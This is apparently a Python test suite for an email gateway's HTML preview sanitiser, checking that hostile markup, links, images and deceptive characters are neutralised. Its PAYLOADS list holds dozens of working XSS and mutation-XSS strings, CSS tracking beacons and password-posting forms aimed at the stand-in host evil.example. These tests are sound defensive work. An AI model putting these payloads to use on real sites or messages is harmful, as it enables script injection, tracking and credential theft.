"""The preview: nothing runs, nothing is fetched, nothing leads away, and the reader is told what is there."""

from __future__ import annotations

import base64
import re
import struct
import zlib
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.anatomy import limits
from gateway.anatomy.preview import preview
from gateway.anatomy.sight.sanitise import refusal, sanitised
from gateway.facts.preview import Preview
from tests.anatomy.making.letters import HEAD, attachment, html, letter, multipart, text

EVIL = "https://evil.example"

# The classes of the corpus that the console's design measured: scripts, frames, break-outs, mutation, SVG and MathML,
# link schemes, forms, comments, remote content, CSS, overlays, clobbering. Each has to come out harmless.
PAYLOADS = [
    f"<script src='{EVIL}/x.js'>alert(1)</script>",
    "<SCRIPT/x>alert(1)</SCRIPT",
    "<img src=x onerror=alert(1)>",
    f"<svg/onload=alert(1)><image href='{EVIL}/x.png'>",
    f"<body onload=alert(1) background='{EVIL}/x.png'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    f"<video src='{EVIL}/v' poster='{EVIL}/p'><source onerror=alert(1)></video>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=alert(1)>x</b>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src='data:text/html,x'>",
    "<base href='javascript:/'><a href='alert(1)'>x</a>",
    f"<base href='{EVIL}/'><img src=t.png>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p style='x:</textarea><img src=x onerror=alert(1)>'>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<style><//><body onload=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<svg><foreignObject><math><mi><style><img src=x onerror=alert(1)></style></mi></math></foreignObject></svg>",
    "<table><table><svg><desc><img src=x onerror=alert(1)>",
    "<div>" * 200 + "<svg><style><img src=x onerror=alert(1)>",
    "<select><style><img src=x onerror=alert(1)></style></select>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x><image href=1 onerror=alert(1)/></svg>#x'>",
    "<svg xmlns='\"><img src=x onerror=alert(1)>'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#javascript:alert(1)'>x</maction></math>",
    "<math><x href='javascript:alert(1)'>x",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    f"<a href='{EVIL}' ping='{EVIL}/ping' target=_blank download>x</a>",
    "<a href='//evil.example/x'>x</a><a href='/\\evil.example'>x</a><a href='https:evil.example'>x</a>",
    f"<form action='{EVIL}'><input name=p type=password><button formaction='{EVIL}'>go</button></form>",
    f"<input type=image src='{EVIL}/x.png'>",
    "<!--[if mso]><img src=x onerror=alert(1)><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- unclosed <img src=x onerror=alert(1)>",
    f"<img src='{EVIL}/t.gif' srcset='{EVIL}/2x.gif 2x' lowsrc='{EVIL}/l.gif' dynsrc='{EVIL}/d'>",
    f"<picture><source srcset='{EVIL}/x'><img></picture><track src='{EVIL}/x'>",
    f"<table background='{EVIL}/x.png'><tr><td background='{EVIL}/y.png'>x</td></tr></table>",
    f"<body background='data:image/png,x);background:url({EVIL}/x)'>x",
    f"<p style='background:url({EVIL}/x)'>x</p>",
    f"<p style='background:u\\72l({EVIL}/x)'>x</p>",
    f"<p style='background:\\75rl({EVIL}/x)'>x</p>",
    f"<p style='--x:url({EVIL}/x);background:var(--x)'>x</p>",
    f"<p style='background:image-set(\"{EVIL}/x\" 1x)'>x</p>",
    f"<p style='background:cross-fade(url({EVIL}/x),red)'>x</p>",
    f"<p style='background:url({EVIL}/x'>x</p>",
    f"<p style='list-style-image:url({EVIL}/x);cursor:url({EVIL}/c),auto'>x</p>",
    f"<p style='width:expression(alert(1));behavior:url({EVIL}/x.htc)'>x</p>",
    f"<style>@import '{EVIL}/x.css'; @\\69mport '{EVIL}/y.css'; @font-face{{src:url({EVIL}/f)}}</style>",
    f"<style>input[value^=a]{{background:url({EVIL}/a)}}</style>",
    f"<p style='content:url({EVIL}/x);background:src(\"{EVIL}/x\")'>x</p>",
    f"<svg><filter><feImage href='{EVIL}/x'/></filter><rect fill='url({EVIL}/x#y)'/></svg>",
    f"<link rel=stylesheet href='{EVIL}/x.css'><link rel=dns-prefetch href='//evil.example'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{EVIL}"]}}]}}</script>',
    f"<iframe src='{EVIL}'></iframe><frameset><frame src='{EVIL}'></frameset>",
    "<div style='position:fixed;top:0;left:0;z-index:9999'>x</div>",
    "<div style='position:/**/fixed!important'>x</div>",
    f"<a href='{EVIL}' style='position:absolute;opacity:0;width:100%;height:100%'>x</a>",
    "<form id=config><input name=attributes><input name=parentNode></form><img name=body id=head>",
    "<div class='banner-safe' id=verdict>Verified</div><dialog open>x</dialog>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<a href='#\"onmouseover=alert(1) x=\"'>x</a>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'><img src='data:text/html,x'>",
    "<img src='cid:missing@x'><img src='blob:x'><img src='file:///etc/passwd'>",
    "<plaintext><img src=x onerror=alert(1)>",
]

ALLOWED_WORDS = """
    href rel src alt style dir lang title align valign width height bgcolor colspan rowspan span border cellpadding
    cellspacing color face size start type
"""
ALLOWED_ATTRIBUTES = set(ALLOWED_WORDS.split())


class Inspector(HTMLParser):
    """Looks at sanitised HTML with another parser than the one that made it."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags, self.attributes = set(), []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


def assert_harmless(markup):
    inspector = Inspector()
    inspector.feed(markup)
    dangerous = (
        "script style iframe frame object embed svg math form input button link meta base template video body html"
    )
    assert not inspector.tags & set(dangerous.split())
    for tag, name, value in inspector.attributes:
        assert name in ALLOWED_ATTRIBUTES, (tag, name)
        if name == "href":
            assert value.startswith("#")
        elif name == "src":
            assert re.fullmatch(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/]+=*", value)
        elif name == "style":
            assert not re.search(r"url|position|z-index|opacity|[\\@]|expression|var\(|image", value.lower())
    assert "<!--" not in markup


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_comes_out_harmless(payload):
    shown = preview(html(f"<p>before</p>{payload}"))
    assert shown.html is not None
    assert shown.html_with_images is not None
    assert_harmless(shown.html)
    assert_harmless(shown.html_with_images)
    assert "before" in shown.html
    assert "<img src" not in shown.html
    assert not re.search(r"https?://|www\.", shown.text)


FRAGMENTS = [
    "<svg>",
    "</svg>",
    "<math>",
    "<mtext>",
    "<style>",
    "</style>",
    "<!--",
    "-->",
    "<img src=x onerror=a>",
    "<table>",
]
FRAGMENTS += [
    "</p>",
    "<template>",
    "<title>",
    "</title>",
    "<select>",
    "<a href=javascript:a>",
    "<p style='background:url(//x)'>",
]
FRAGMENTS += [
    "<noscript>",
    "</noscript>",
    "'",
    '"',
    ">",
    "<form>",
    "</form>",
    "<mglyph>",
    "<textarea>",
    "</textarea>",
    "text",
]


@given(st.lists(st.sampled_from(FRAGMENTS), max_size=25).map("".join))
@settings(max_examples=300, deadline=None)
def test_any_mix_of_dangerous_markup_comes_out_harmless(markup):
    shown = sanitised(markup, {})
    assert shown is not None
    assert_harmless(shown)


def test_a_link_shows_where_it_went_and_goes_nowhere():
    shown = preview(html("<a href='https://evil.example/p?a=1'>paypal.com</a>"))
    assert 'href="#hxxps://evil[.]example/p?a=1"' in (shown.html or "")
    assert shown.text == "paypal.com ⟶ hxxps://evil[.]example/p?a=1"


def test_formatting_survives():
    markup = "<table border=1 bgcolor='#eeeeee'><tr><td style='color:red;padding:1px'><b>bold</b></td></tr></table>"
    shown = preview(html(markup)).html or ""
    assert "<b>bold</b>" in shown
    assert "color:red" in shown
    assert 'bgcolor="#eeeeee"' in shown


def png(width=1, height=1):
    def chunk(kind, content):
        return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))

    size = struct.pack(">LLBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


def with_picture(picture, markup="<img src='cid:logo@x' alt=logo>", kind="image/png"):
    page = b"Content-Type: text/html\r\n\r\n" + markup.encode()
    return multipart(page, b"Content-ID: <logo@x>\r\n" + attachment(picture, "a.png", kind), subtype=b"related")


def test_a_picture_of_the_message_is_shown_only_on_demand():
    shown = preview(with_picture(png()))
    assert "data:" not in (shown.html or "")
    assert f"data:image/png;base64,{base64.b64encode(png()).decode()}" in (shown.html_with_images or "")


@pytest.mark.parametrize(
    "picture",
    [
        png(65_535, 65_535),
        b"<svg onload=x>",
        b"MZ" + bytes(100),
        png() + bytes(limits.MAX_IMAGE_URI),
        b"\x89PNG\r\n\x1a\n",
    ],
    ids=["bomb", "svg", "program", "large", "cut"],
)
def test_a_picture_that_may_harm_is_not_shown(picture):
    assert "data:" not in (preview(with_picture(picture)).html_with_images or "")


def test_a_picture_used_again_and_again_is_bounded():
    picture = png() + bytes(200_000)
    shown = preview(with_picture(picture, "<img src='cid:logo@x'>" * 1_000)).html_with_images or ""
    assert 0 < shown.count("data:image/png") < 20


def test_a_picture_inside_the_html_is_made_anew():
    source = f"data:IMAGE/JPEG;base64,{base64.b64encode(png()).decode()}"
    shown = preview(html(f"<img src='{source}'>"))
    assert "data:" not in (shown.html or "")
    assert "data:image/png;base64," in (shown.html_with_images or "")


@pytest.mark.parametrize(
    ("markup", "reason"),
    [
        ("<div>" * 400, "the HTML is nested more than 300 deep"),
        ("<br>" * 60_000, "the HTML has more than 50,000 nodes"),
        ("x" * (2 * 1024 * 1024 + 1), "the HTML is larger than 2 MB"),
    ],
)
def test_html_out_of_bounds_is_not_shown_and_the_reason_given(markup, reason):
    assert refusal(markup) == reason
    shown = preview(html(markup))
    assert (shown.html, shown.html_with_images, shown.html_reason) == (None, None, reason)


def test_a_message_without_html_says_so():
    shown = preview(text("visit http://evil.example now"))
    assert (shown.html, shown.html_reason) == (None, "the message has no HTML")
    assert shown.text == "visit hxxp://evil[.]example now"


def test_characters_that_deceive_are_written_out():
    octets = letter(b"Subject: pay\xe2\x80\xae\x1b[2J", b"x") + b""
    assert dict(preview(octets).headers)["Subject"] == "pay⟦U+202E⟧⟦U+001B⟧[2J"
    shown = preview(multipart(attachment(b"MZ", "invoice=?utf-8?q?=E2=80=AE?=fdp.exe")))
    assert shown.parts[0].name == "invoice⟦U+202E⟧fdp.exe"
    assert preview(text("a\u202eb\u200bc\x1b[2J\r\nd")).text == "a⟦U+202E⟧bc[2J\nd"


def test_headers_are_decoded_and_bounded():
    octets = b"SuBject: =?utf-8?q?=3Cscript=3E?=\r\n" + b"X: y\r\n" * 1_000 + b"\r\n"
    shown = preview(octets).headers
    assert shown[0] == ("SuBject", "<script>")
    assert len(shown) == limits.MAX_SHOWN_FIELDS


def test_both_alternatives_are_shown_under_their_names():
    octets = multipart(b"\r\nplain words", b"Content-Type: text/html\r\n\r\n<p>rich words", subtype=b"alternative")
    assert preview(octets).text == "[part 1, text/plain]\nplain words\n\n[part 2, text/html]\nrich words"


@given(st.binary(max_size=2_000))
@settings(max_examples=200, deadline=None)
def test_any_octets_give_a_preview(octets):
    assert isinstance(preview(HEAD + b"Content-Type: text/html\r\n\r\n" + octets), Preview)
    assert isinstance(preview(octets), Preview)
